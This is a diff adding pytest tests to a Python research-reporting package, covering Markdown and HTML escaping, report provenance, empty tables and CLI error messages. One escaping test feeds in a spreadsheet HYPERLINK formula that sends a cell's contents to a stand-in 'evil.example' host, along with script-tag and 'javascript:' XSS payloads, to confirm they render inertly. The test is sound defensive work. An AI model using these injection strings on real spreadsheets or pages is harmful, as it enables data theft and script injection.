@@ -29,6 +29,28 @@ def test_markdown_escaping_never_shows_entities_or_backslashes():
     assert display.esc("a\nb | c") == "a b \\| c"  # a newline cannot end a Markdown table row
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>',
+        "<http://evil.example> and mailto:a@b.example",
+        "Mary <b>O'Brien</b> | *Boss* $x^2$ [l](javascript:alert(3)) https://x.example/a_b_c",
+    ],
+)
+def test_markdown_escaping_makes_no_link_and_shows_the_text_as_written(text):
+    """A URL in a title or speaker name is text: the renderer's autolinking must not
+    turn it into a link (which also swallowed the escaping backslash into the URL)."""
+    import html
+
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    for template in ("{}", "**{}** — sanction"):
+        rendered = markdown2html_mistune(template.format(display.esc(text)))
+        assert "<a " not in rendered and "<script" not in rendered and "<b>" not in rendered
+        visible = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
+        assert visible == template.replace("**", "").format(text)
+
+
 def test_html_escaping_is_applied_once_with_paragraph_breaks():
     assert display.html_text("woman's <b>") == "woman&#x27;s &lt;b&gt;"
     assert display.html_text("First.\n\nSecond.\nThird.") == "First.<br><br>Second.<br>Third."
@@ -205,3 +227,60 @@ def test_provenance_prints_the_lock_hash_or_says_there_is_none(tmp_path):
     (tmp_path / "requirements.lock").write_text("pandas==2.2.0\n", encoding="utf-8")
     digest = hashlib.sha256(b"pandas==2.2.0\n").hexdigest()
     assert f"requirements.lock</code> sha256 <code>{digest}</code>" in report.provenance(tmp_path / "t", tmp_path, {})
+
+
+def test_provenance_names_the_package_code_even_outside_its_checkout(tmp_path):
+    """Rendered from a folder that is no git repository (a researcher's own corpus
+    folder), the report still says which code and rules made its numbers."""
+    import subprocess
+
+    from oversight_research import tables
+    from oversight_research.cache import code_fingerprint
+
+    tables.write_table("articles", tables.to_frame("articles", [{"doc_id": "d", "status": "ok"}]), tmp_path / "t")
+    html = report.provenance(tmp_path / "t", tmp_path, {})
+    assert "<strong>Git commit:</strong> <code>unknown" in html  # the folder rendered from is no repository
+    assert code_fingerprint() in html
+    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
+    assert f"commit <code>{head}" in html
+
+
+def test_an_empty_table_says_it_has_no_rows(monkeypatch):
+    shown = []
+    monkeypatch.setattr(display, "display", shown.append)
+    display.show_table(pd.DataFrame({"doc_id": pd.Series([], dtype="string"), "review": []}))
+    assert "<th>doc_id</th>" in shown[0].data and "No rows" in shown[0].data
+    display.show_table(pd.DataFrame({"doc_id": ["a"]}))
+    assert "No rows" not in shown[1].data
+
+
+def test_a_report_path_that_is_a_folder_or_cannot_be_written_is_one_line(tmp_path, capsys):
+    (tmp_path / "out").mkdir()
+    args = ["report", "--processed", str(tmp_path), "--executed", str(tmp_path), "--notebooks", str(ROOT / "notebooks")]
+    assert main([*args, "--out", str(tmp_path / "out")]) == 2
+    err = capsys.readouterr().err
+    assert "is a folder" in err and "Traceback" not in err and err.count("\n") == 1
+    blocked = tmp_path / "file"
+    blocked.write_text("", encoding="utf-8")
+    assert main([*args, "--out", str(blocked / "report.html")]) == 2  # its folder is a file
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "Traceback" not in err and err.count("\n") == 1
+
+
+@pytest.mark.parametrize("path", ["/home/x/my_corpus (v2)/tables", "out/`odd`*dir*", "C:\\data\\tables"])
+def test_a_command_in_a_notebook_sentence_shows_verbatim_for_copying(path):
+    """A path inside a code span got esc()'s backslashes (``my\\_corpus \\(v2\\)``),
+    so the command a reader copied from the report failed."""
+    import html
+
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    command = f"oversight-research evaluate --tables {path}"
+    rendered = markdown2html_mistune(display.md_text("No evaluation found: run {cmd}.", cmd=display.Code(command)))
+    (code,) = re.findall(r"<code>(.*?)</code>", rendered)
+    assert html.unescape(code).strip() == command
+
+
+def test_the_notebooks_put_no_escaped_value_inside_a_code_span():
+    sources = "".join(c.source for p in sorted((ROOT / "notebooks").glob("*.ipynb")) for c in nbformat.read(p, 4).cells)
+    assert not re.search(r"`[^`\n]*\{[a-z_]+\}[^`\n]*`", sources)
